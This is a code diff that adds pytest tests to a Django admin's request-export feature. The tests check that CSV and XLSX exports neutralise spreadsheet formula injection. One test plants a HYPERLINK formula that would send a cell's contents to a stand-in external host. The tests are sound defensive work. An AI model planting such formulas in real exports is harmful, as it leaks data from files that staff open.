@@ -2,6 +2,7 @@
 
 import csv
 import io
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -12,6 +13,7 @@ from django.test import Client
 
 from demandes.models import Agent, Channel, Demande, DemandeLogEntry
 from demandes.procedures import FTU, PIC, Status
+from demandes.wagtail_hooks import as_text_in_spreadsheet
 from home.models import ContactPoint, Quartier
 from tests.demandes.conftest import PNG, field_name, ftu_answers, pic_answers
 from tests.utils import page_text
@@ -104,6 +106,45 @@ def test_the_inbox_filters_searches_and_exports_the_filtered_list(admin_client, 
     )
     references = [row[0] for row in workbook.active.iter_rows(min_row=2, values_only=True)]
     assert sorted(references) == sorted(demande.reference for demande in demandes)
+
+
+def exported_rows(client, export_format):
+    """The rows of the inbox's export, as a spreadsheet program reads them (headings first)."""
+    content = b"".join(client.get(f"/admin/demandes_recues/?export={export_format}").streaming_content)
+    if export_format == "csv":
+        return list(csv.reader(io.StringIO(content.decode())))
+    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_the_export_hands_no_formula_to_a_spreadsheet_program(admin_client, demandes, export_format):
+    """Names typed in the admin (and, later, by residents) reach the export: a formula there would run
+    when staff open the file, so it is written as text."""
+    pic, _ftu = demandes
+    formula = '=HYPERLINK("https://exemple.test/?d="&A2;"Ouvrir")'
+    ContactPoint.objects.filter(pk=pic.contact_point_id).update(name=formula)
+    headings, *rows = exported_rows(admin_client, export_format)
+    column = headings.index("Lieu qui traite la demande")
+    row = next(row for row in rows if row[0] == pic.reference)
+    assert row[column] == "'" + formula
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("Clémenceau – Kiener", "Clémenceau – Kiener"),
+        ("PIC-2026-0001", "PIC-2026-0001"),
+        (Decimal("-10"), Decimal("-10")),
+    ],
+)
+def test_a_text_that_a_spreadsheet_would_read_as_a_formula_is_exported_as_text(value, exported):
+    assert as_text_in_spreadsheet(value) == exported
 
 
 def test_opening_a_demande_shows_everything_and_is_recorded_in_the_audit_log(agent_oliveaux, demandes):
